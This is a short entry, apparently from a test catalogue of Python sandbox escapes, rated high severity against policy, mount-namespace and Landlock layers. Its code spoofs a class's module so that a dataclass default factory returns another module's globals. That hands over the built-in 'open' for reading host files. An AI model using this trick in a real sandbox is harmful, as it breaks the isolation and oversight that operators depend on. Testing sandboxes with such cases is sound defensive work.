# technique: a data class of another module calls a factory with that module's variables
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import dataclasses

    class Holder:
        __module__ = "json"
        field: dict = dataclasses.field(default_factory=globals)
    return dataclasses.dataclass(Holder)().field["__builtins__"]["open"]

read_host(trick)
